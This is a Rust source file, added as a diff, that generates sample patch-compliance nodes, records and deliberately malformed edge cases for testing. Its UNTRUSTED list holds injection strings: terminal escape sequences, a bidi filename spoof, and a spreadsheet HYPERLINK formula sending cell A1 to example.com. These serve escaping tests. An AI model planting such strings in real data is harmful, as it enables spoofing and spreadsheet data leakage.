@@ -1,0 +1,363 @@
+//! The sample fleet's nodes: one line of `nodes.csv` each, and the rows and record that follow from it.
+//! Knows how a line becomes patch rows, and which nodes are odd on purpose and how.
+//! Must not know requests, pages or the network.
+
+use std::borrow::Cow;
+use std::collections::BTreeSet;
+use std::sync::OnceLock;
+
+use fastrand::Rng;
+use serde::{Deserialize, Deserializer};
+
+use super::NOW_SECONDS;
+use super::catalogue::{Entry, Family, Os};
+use super::hash;
+use super::shapes::{Baseline, Counts, Patch, Record, cves_shown, is_security, state};
+
+const HOUR: f64 = 3_600.0;
+
+/// What is wrong with a node, on purpose.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum Odd {
+    NeverScanned,
+    /// `UnreportedNotApplicableCount` is -1.
+    UnreportedUnknown,
+    /// Written before several counters existed.
+    OldRecord,
+    NoInstalledCount,
+    /// The run never ended: `OperationEndTime` is 0.
+    InterruptedZero,
+    /// The run never ended: `OperationEndTime` is the year 1.
+    InterruptedYearOne,
+    UnknownState,
+    NoStateKey,
+    NoOperation,
+    UntrustedTitles,
+    OverrideList,
+    /// An empty page that carries a token.
+    EmptyPage,
+    /// The last page says `"NextToken":""`.
+    BlankToken,
+    /// A short page with more behind it.
+    ShortPage,
+}
+
+/// A line of `nodes.csv`.
+#[derive(Deserialize)]
+struct Line {
+    id: String,
+    os: Os,
+    group: String,
+    baseline: String,
+    operation: String,
+    reboot: String,
+    hours_ago: Option<u32>,
+    installed: usize,
+    other: usize,
+    pending: usize,
+    rejected: usize,
+    missing: usize,
+    failed: usize,
+    available: usize,
+    not_applicable: usize,
+    #[serde(deserialize_with = "blank_is_none")]
+    odd: Option<Odd>,
+}
+
+fn blank_is_none<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<Odd>, D::Error> {
+    let word = Cow::<str>::deserialize(deserializer)?;
+    if word.is_empty() {
+        return Ok(None);
+    }
+    Odd::deserialize(serde::de::value::StrDeserializer::new(&word)).map(Some)
+}
+
+/// One node of the sample fleet.
+pub struct Node {
+    line: Line,
+    /// Made when somebody asks: most runs look at a few nodes only.
+    rows: OnceLock<Vec<Patch>>,
+}
+
+/// The nodes, in the order of the file.
+pub fn nodes() -> Vec<Node> {
+    csv::Reader::from_reader(include_bytes!("nodes.csv").as_slice())
+        .deserialize()
+        .map(|line| line.expect("nodes.csv is part of the program and read by its tests"))
+        .map(|line| Node {
+            line,
+            rows: OnceLock::new(),
+        })
+        .collect()
+}
+
+impl Node {
+    pub fn id(&self) -> &str {
+        &self.line.id
+    }
+
+    pub fn odd(&self) -> Option<Odd> {
+        self.line.odd
+    }
+
+    /// The patch rows, in the order the service gives them.
+    pub fn rows(&self) -> &[Patch] {
+        self.rows.get_or_init(|| {
+            if self.scanned() {
+                self.build()
+            } else {
+                Vec::new()
+            }
+        })
+    }
+
+    /// The state record; a node that was never scanned has none.
+    pub fn record(&self) -> Option<Record> {
+        if !self.scanned() {
+            return None;
+        }
+        let (start, end) = self.times();
+        let line = &self.line;
+        let baseline = if line.baseline.is_empty() {
+            Baseline::Managed
+        } else {
+            Baseline::Custom
+        };
+        let baseline_id = if line.baseline.is_empty() {
+            line.os.baseline()
+        } else {
+            &line.baseline
+        };
+        let mut record = Record {
+            instance_id: line.id.clone(),
+            patch_group: line.group.clone(),
+            baseline_id: baseline_id.to_owned(),
+            snapshot_id: Some(hash::uuid(hash::text(&line.id))),
+            operation_start_time: start,
+            operation_end_time: end,
+            operation: Some(line.operation.clone()),
+            reboot_option: Some(line.reboot.clone()).filter(|option| !option.is_empty()),
+            ..Record::default()
+        };
+        let mut counts = Counts::of(self.rows().iter().map(Cow::Borrowed), baseline);
+        if !line.os.is_windows() {
+            // Linux and macOS only count what does not apply; no rows say so.
+            counts.not_applicable = i64::try_from(line.not_applicable).unwrap_or(0);
+        }
+        record.count(&counts, line.os.is_windows());
+        if line.reboot == "NoReboot" {
+            let since = if line.operation == "Install" {
+                0.0
+            } else {
+                74.0 * HOUR
+            };
+            record.last_no_reboot_install_operation_time = Some(end - since);
+        }
+        self.spoil(&mut record);
+        Some(record)
+    }
+
+    fn scanned(&self) -> bool {
+        self.line.hours_ago.is_some()
+    }
+
+    /// Start and end of the last operation. Most have a fraction of a second, some are whole.
+    fn times(&self) -> (f64, f64) {
+        let mut rng = Rng::with_seed(hash::join(hash::text(&self.line.id), 1));
+        let hours = f64::from(self.line.hours_ago.unwrap_or(0));
+        let jitter = f64::from(rng.u32(0..3_000));
+        let fraction = if rng.u8(0..4) == 0 {
+            0.0
+        } else {
+            f64::from(rng.u32(1..8)) / 8.0
+        };
+        let end = f64::from(NOW_SECONDS) - hours * HOUR - jitter + fraction;
+        (end - f64::from(rng.u32(40..700)), end)
+    }
+
+    /// What the odd nodes' records get wrong.
+    fn spoil(&self, record: &mut Record) {
+        match self.line.odd {
+            Some(Odd::UnreportedUnknown) => record.unreported_not_applicable_count = Some(-1),
+            Some(Odd::OldRecord) => {
+                record.installed_pending_reboot_count = None;
+                record.installed_rejected_count = None;
+                record.unreported_not_applicable_count = None;
+                record.critical_non_compliant_count = None;
+                record.security_non_compliant_count = None;
+                record.other_non_compliant_count = None;
+                record.snapshot_id = None;
+            }
+            Some(Odd::NoInstalledCount) => {
+                record.installed_count = None;
+                record.available_security_update_count = None;
+            }
+            Some(Odd::InterruptedZero) => record.operation_end_time = 0.0,
+            Some(Odd::InterruptedYearOne) => record.operation_end_time = -62_135_596_800.0,
+            Some(Odd::NoOperation) => record.operation = None,
+            Some(Odd::OverrideList) => {
+                record.install_override_list =
+                    Some("https://s3.eu-west-1.amazonaws.com/patching-overrides/2026-11.yaml");
+            }
+            _ => {}
+        }
+    }
+
+    fn build(&self) -> Vec<Patch> {
+        let line = &self.line;
+        let mut rng = Rng::with_seed(hash::text(&line.id));
+        let mut rows = self.known(&mut rng);
+        let first = if line.os.is_windows() {
+            rng.usize(0..900)
+        } else {
+            0
+        };
+        for nth in 0..line.other {
+            let time = self.installed_at(&mut rng);
+            rows.push(Patch::nameless(
+                line.os.other(first + nth),
+                state::OTHER,
+                time,
+            ));
+        }
+        if line.os.is_windows() {
+            for nth in 0..line.not_applicable {
+                rows.push(Patch::nameless(
+                    line.os.other(first + line.other + nth),
+                    state::NOT_APPLICABLE,
+                    0.0,
+                ));
+            }
+        }
+        self.add_odd_rows(&mut rows);
+        rows.sort_by(|left, right| (&left.kb_id, &left.title).cmp(&(&right.kb_id, &right.title)));
+        rows
+    }
+
+    /// The rows about patches of the catalogue: what is not yet there is among the newest.
+    fn known(&self, rng: &mut Rng) -> Vec<Patch> {
+        let line = &self.line;
+        let mut pool: Vec<&'static Entry> = line.os.entries().iter().collect();
+        let due = line.pending + line.rejected + line.missing + line.failed + line.available;
+        let newest = pool.len().min(due + due / 2 + 2);
+        rng.shuffle(&mut pool[..newest]);
+        let mut rows = Vec::with_capacity(pool.len());
+        for (state, count, security_only) in [
+            (state::FAILED, line.failed, true),
+            (state::AVAILABLE, line.available, true),
+            (state::PENDING, line.pending, true),
+            (state::REJECTED, line.rejected, false),
+            (state::MISSING, line.missing, false),
+            (state::INSTALLED, line.installed, false),
+        ] {
+            let mut seen = BTreeSet::new();
+            for _ in 0..count {
+                let fits = |entry: &Entry| !security_only || is_security(&entry.classification);
+                // One of each severity first, so that there is something to sort by.
+                let varied = pool
+                    .iter()
+                    .take(newest)
+                    .position(|entry| fits(entry) && seen.insert(entry.severity.as_str()));
+                let Some(place) = varied.or_else(|| pool.iter().position(|entry| fits(entry)))
+                else {
+                    break;
+                };
+                let entry = pool.remove(place);
+                rows.push(self.row(entry, state, rng));
+            }
+        }
+        rows
+    }
+
+    fn row(&self, entry: &'static Entry, state: &'static str, rng: &mut Rng) -> Patch {
+        let installed_time = match state {
+            state::INSTALLED | state::REJECTED => self.installed_at(rng),
+            state::PENDING => self.times().1.floor() - f64::from(rng.u32(5..90)),
+            _ => 0.0,
+        };
+        Patch {
+            title: Cow::Borrowed(&entry.title),
+            kb_id: Cow::Borrowed(&entry.kb_id),
+            classification: &entry.classification,
+            severity: &entry.severity,
+            state: Some(state),
+            installed_time,
+            cve_ids: cves_shown(&entry.cves, state),
+        }
+    }
+
+    /// When something was installed: days before the scan, to the day on Windows, and now and then not known at all.
+    fn installed_at(&self, rng: &mut Rng) -> f64 {
+        const DAY: u32 = 86_400;
+        if rng.u8(0..8) == 0 {
+            return 0.0;
+        }
+        let scan = NOW_SECONDS - self.line.hours_ago.unwrap_or(0) * 3_600;
+        let time = scan - DAY * rng.u32(2..420) - rng.u32(0..DAY);
+        let whole = if self.line.os.is_windows() { DAY } else { 1 };
+        f64::from(time - time % whole)
+    }
+
+    fn add_odd_rows(&self, rows: &mut Vec<Patch>) {
+        match self.line.odd {
+            Some(Odd::UnknownState) => rows.push(Patch {
+                state: Some("InstalledSuperseded"),
+                ..titled(
+                    "linux-headers-aws.amd64",
+                    "linux-headers-aws.amd64:6.8.0.1040.42~22.04.1",
+                    self.line.os,
+                )
+            }),
+            Some(Odd::NoStateKey) => rows.push(Patch {
+                state: None,
+                ..titled(
+                    "libgnutls-dane0.amd64",
+                    "libgnutls-dane0.amd64:3.7.1-5+deb11u8",
+                    self.line.os,
+                )
+            }),
+            Some(Odd::UntrustedTitles) => {
+                rows.extend(UNTRUSTED.map(|(kb, title)| titled(kb, title, self.line.os)));
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Titles come from whoever named a package; some of these try to leave the cell they are put in.
+const UNTRUSTED: [(&str, &str); 8] = [
+    (
+        "aaa-escape",
+        "\u{1b}[31mred alert\u{1b}[0m\u{1b}]0;owned\u{7}.1.0",
+    ),
+    ("aab-bidi", "invoice\u{202e}fdp.exe\u{202c}.2.1"),
+    (
+        "aac-formula",
+        "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")",
+    ),
+    ("aad-wide", "セキュリティ更新プログラム 2026年11月.26.1"),
+    ("aae-comma", "fonts, dictionaries, and other things.3.4"),
+    ("aaf-quote", "the \"quoted\" package.0.9"),
+    ("aag-newline", "first line\nsecond line.1.1"),
+    ("aah-markup", "<b>bold</b> | a pipe & an ampersand.5.0"),
+];
+
+fn titled(kb: &'static str, title: &'static str, os: Os) -> Patch {
+    let (classification, severity) = match os.family() {
+        Family::MacOs => ("brew", ""),
+        _ => ("Security", "optional"),
+    };
+    Patch {
+        title: Cow::Borrowed(title),
+        kb_id: Cow::Borrowed(kb),
+        classification,
+        severity,
+        state: Some(state::INSTALLED),
+        installed_time: 0.0,
+        cve_ids: None,
+    }
+}
+
+#[cfg(test)]
+mod tests;
